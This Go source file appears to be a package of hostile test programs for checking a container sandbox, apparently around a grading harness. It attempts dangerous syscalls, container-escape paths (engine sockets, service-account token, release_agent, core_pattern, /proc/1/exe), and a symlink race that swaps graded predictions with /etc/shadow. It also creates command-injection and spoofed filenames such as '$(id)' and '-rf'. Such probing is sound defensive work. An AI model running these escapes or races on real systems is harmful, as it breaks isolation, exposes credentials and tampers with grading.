package hostile

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

func init() {
	for name, f := range map[string]func(*program) int{
		"calls": (*program).calls, "sockets": (*program).sockets, "escape": (*program).escape,
		"swap": (*program).swap, "swapper": (*program).swapper, "names": (*program).names,
	} {
		facts[name] = f
	}
}

// call is a system call that has been a way out of containers, with arguments
// under which a kernel that permits it does something, or at least looks at them.
type call struct {
	name         string
	amd64, arm64 uintptr
	args         [5]uintptr
}

// calls reports for each dangerous system call what came of it: "ok", "refused"
// by a kernel that does not have it or does not permit it, or "reached", with the
// error of a kernel that looked at the arguments.
func (p *program) calls() int {
	zero := make([]byte, 4096)
	mem := uintptr(unsafe.Pointer(&zero[0]))
	root := append([]byte("/"), 0)
	slash := uintptr(unsafe.Pointer(&root[0]))
	ppid := uintptr(1)
	for _, c := range []call{
		{"add_key", 248, 217, [5]uintptr{slash, slash, mem, 1, ^uintptr(0) - 1}},
		{"request_key", 249, 218, [5]uintptr{slash, slash, 0, ^uintptr(0) - 1}},
		{"keyctl", 250, 219, [5]uintptr{0, ^uintptr(0) - 2, 1}}, // the session keyring
		{"perf_event_open", 298, 241, [5]uintptr{mem, 0, ^uintptr(0), ^uintptr(0)}},
		{"bpf", 321, 280, [5]uintptr{0, mem, 72}},
		{"userfaultfd", 323, 282, [5]uintptr{1}},
		{"io_uring_setup", 425, 425, [5]uintptr{1, mem}},
		{"setns", 308, 268, [5]uintptr{0, 0}},
		{"open_by_handle_at", 304, 265, [5]uintptr{^uintptr(99), mem, 0}},
		{"process_vm_readv", 310, 270, [5]uintptr{ppid, mem, 0, mem, 0}},
		{"kexec_load", 246, 104, [5]uintptr{0, 0, 0, 0}},
		{"init_module", 175, 105, [5]uintptr{mem, 1, slash}},
		{"finit_module", 313, 273, [5]uintptr{0, slash, 0}},
		{"quotactl", 179, 60, [5]uintptr{0x800002 << 8, slash, 0, mem}},
		{"pivot_root", 155, 41, [5]uintptr{slash, slash}},
		{"swapon", 167, 224, [5]uintptr{slash, 0}},
		{"acct", 163, 89, [5]uintptr{slash}},
		{"syslog", 103, 116, [5]uintptr{3, mem, 4096}},
		{"reboot", 169, 142, [5]uintptr{0xfee1dead, 672274793, 0}},
		{"mount", 165, 40, [5]uintptr{slash, slash, slash, 4096, 0}},
		{"open_tree", 428, 428, [5]uintptr{^uintptr(99), slash, 1}},
		{"fsopen", 430, 430, [5]uintptr{slash, 0}},
		{"clock_settime", 227, 112, [5]uintptr{0, mem}},
		{"adjtimex", 159, 171, [5]uintptr{uintptr(unsafe.Pointer(&[26]uint64{1: 1, 0: 1}))}},
		{"fanotify_init", 300, 262, [5]uintptr{0, 0}},
		{"ptrace of process 1", 101, 117, [5]uintptr{16, 1}},
		{"unshare user", 272, 97, [5]uintptr{syscall.CLONE_NEWUSER}},
		{"unshare mnt", 272, 97, [5]uintptr{syscall.CLONE_NEWNS}},
		{"unshare net", 272, 97, [5]uintptr{syscall.CLONE_NEWNET}},
		{"unshare pid", 272, 97, [5]uintptr{syscall.CLONE_NEWPID}},
	} {
		n := c.amd64
		if runtime.GOARCH == "arm64" {
			n = c.arm64
		}
		_, _, errno := syscall.RawSyscall6(n, c.args[0], c.args[1], c.args[2], c.args[3], c.args[4], 0)
		p.say("call %s: %s", c.name, verdict(errno))
	}
	runtime.KeepAlive(zero)
	runtime.KeepAlive(root)
	return 0
}

func verdict(errno syscall.Errno) string {
	switch errno {
	case 0:
		return "ok"
	case syscall.EPERM, syscall.EACCES, syscall.ENOSYS, syscall.EOPNOTSUPP, syscall.EAFNOSUPPORT, syscall.EPROTONOSUPPORT, syscall.ESOCKTNOSUPPORT:
		return "refused, " + errno.Error()
	}
	return "reached, " + errno.Error()
}

// sockets opens one socket of every family there is. Those beyond unix, IPv4,
// IPv6 and netlink may reach past a network namespace: vsock the hypervisor, alg
// the kernel's ciphers, bluetooth the air.
func (p *program) sockets() int {
	for family := range 46 {
		if slices.Contains([]int{syscall.AF_UNSPEC, syscall.AF_UNIX, syscall.AF_INET, syscall.AF_INET6, syscall.AF_NETLINK}, family) {
			continue
		}
		for _, kind := range []int{syscall.SOCK_STREAM, syscall.SOCK_DGRAM, syscall.SOCK_RAW, syscall.SOCK_SEQPACKET} {
			fd, err := syscall.Socket(family, kind, 0)
			if err == nil {
				p.say("socket of family %d: ok", family)
				syscall.Close(fd)
				break
			}
		}
	}
	p.say("sockets: tried")
	return 0
}

// escape tries the known ways from a container to its host: engine sockets,
// cgroup release agents, kernel settings that name programs, disks, memory, the
// file systems of other processes, sockets of the engine without a file,
// descriptors of the host that were left open, and terminals.
func (p *program) escape() int {
	for _, f := range []string{
		"/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/podman/podman.sock", "/var/run/secrets/kubernetes.io/serviceaccount/token",
		"/proc/kcore", "/proc/kmsg", "/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/dm-0", "/dev/kvm", "/dev/fuse", "/dev/kmsg", "/dev/console", "/dev/mapper/control", "/dev/vsock", "/dev/vhost-vsock", "/dev/net/tun",
		"/var/lib/lxcfs", "/host", "/rootfs", "/mnt/host", "/var/lib/docker", "/var/lib/kubelet", "/run/runc",
	} {
		fd, err := syscall.Open(f, syscall.O_RDONLY|syscall.O_NONBLOCK, 0)
		if err == nil {
			syscall.Close(fd)
		}
		p.tried(err, "opening %s", f)
	}
	for _, f := range []string{
		"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/binfmt_misc/register", "/proc/sysrq-trigger", "/proc/irq/default_smp_affinity",
		"/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max", "/proc/1/oom_score_adj", "/proc/self/uid_map",
	} {
		w, err := os.OpenFile(f, os.O_WRONLY, 0)
		if err == nil {
			if f != "/proc/1/oom_score_adj" { // its own
				_, err = w.WriteString("1")
			} else {
				_, err = w.WriteString("-999")
			}
			w.Close()
		}
		p.tried(err, "writing %s", f)
	}
	_ = os.Mkdir("/tmp/cg", 0o755)
	for _, fs := range []string{"cgroup", "cgroup2", "proc", "sysfs", "tmpfs", "overlay", "debugfs", "securityfs"} {
		p.tried(syscall.Mount(fs, "/tmp/cg", fs, 0, ""), "mounting %s", fs)
	}
	for _, dev := range []int{8 << 8, 253 << 8, 254 << 8, 259 << 8, 1<<8 | 1} {
		p.tried(syscall.Mknod("/tmp/dev", syscall.S_IFBLK|0o666, dev), "making device %d", dev>>8)
	}
	// Processes other than its own, and their roots.
	others := 0
	pids, _ := filepath.Glob("/proc/[0-9]*")
	for _, d := range pids {
		if d != fmt.Sprintf("/proc/%d", os.Getpid()) {
			others++
		}
	}
	p.say("other processes: %d", others)
	// Links of our own descriptors and mounts that lead outside.
	fds, _ := filepath.Glob("/proc/self/fd/*")
	for _, fd := range fds {
		to, err := os.Readlink(fd)
		if err == nil && strings.HasPrefix(to, "/") && !strings.HasPrefix(to, "/proc/") && to != "/dev/null" {
			p.say("open file %s", to)
		}
	}
	p.tried(func() error { _, err := os.Stat("/proc/self/cwd/../../../../../../etc/hostname-of-host"); return err }(), "climbing out of the working directory")
	b, _ := os.ReadFile("/proc/net/unix")
	for line := range bytes.Lines(b) {
		if i := bytes.Index(line, []byte("@")); i >= 0 {
			p.say("abstract socket %s", bytes.TrimSpace(line[i:]))
		}
	}
	// A program that replaces the one that started it.
	exe, err := os.OpenFile("/proc/1/exe", os.O_WRONLY, 0)
	if err == nil {
		exe.Close()
	}
	p.tried(err, "writing the program of process 1")
	return 0
}

// swap leaves a child that swaps the predictions between a file and links for
// ever, and ends well.
func (p *program) swap() int {
	target := "/etc/shadow"
	if len(p.args) > 0 {
		target = p.args[0]
	}
	if err := os.WriteFile("/output/real", []byte("id,label\nr1,x\n"), 0o644); err != nil {
		return 1
	}
	c := exec.Command("/proc/self/exe", append(self(), "swapper", target)...)
	c.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	if err := c.Start(); err != nil {
		p.say("%v", err)
		return 1
	}
	for range 500 { // until it swaps
		if _, err := os.Lstat("/output/predictions.csv"); err == nil {
			break
		}
		time.Sleep(time.Millisecond)
	}
	return 0
}

// self are the arguments that come before the mode: the program may be one of
// several in one executable.
func self() []string {
	if i := slices.Index(os.Args, "hostile"); i == 1 {
		return []string{"hostile"}
	}
	return nil
}

func (p *program) swapper() int {
	const out = "/output/predictions.csv"
	for {
		_ = os.Remove(out)
		_ = os.Symlink(p.args[0], out)
		_ = os.Remove(out)
		_ = os.Link("/output/real", out)
		_ = os.Remove(out)
		_ = os.Symlink("../../../../../../.."+p.args[0], out)
		_ = os.Rename("/output/real", out)
		_ = os.WriteFile("/output/real", []byte("id,label\nr1,x\n"), 0o644)
	}
}

// names makes files whose names mean something to somebody, beside proper
// predictions.
func (p *program) names() int {
	made := 0
	for _, name := range []string{
		"..predictions.csv", "predictions.csv ", "predictions.csv\n", "\npredictions.csv", "predictions.csv\u202evsc", "-rf", "--help", "$(id)", "`id`", "a;id", "|id", "\x1b[2J", "\xff\xfe", "con", "aux.csv",
		strings.Repeat("x", 255), "%s%n", "predictions.csv%00", "ｐredictions.csv", "<script>alert(1)</script>", `C:\x`, "~root",
	} {
		if os.WriteFile("/output/"+name, []byte("name"), 0o644) == nil {
			made++
		}
	}
	deep := "/output"
	for i := 0; i < 20 && len(deep) < 4000; i++ {
		deep += "/" + strings.Repeat("d", 200)
		if os.Mkdir(deep, 0o755) != nil {
			break
		}
	}
	p.say("names: %d", made)
	return p.hello()
}

// suid is where an image has this program with set-user-id bits.
func suid() string {
	if self() != nil {
		return "/suid/" + filepath.Base(os.Args[0])
	}
	return "/suid"
}
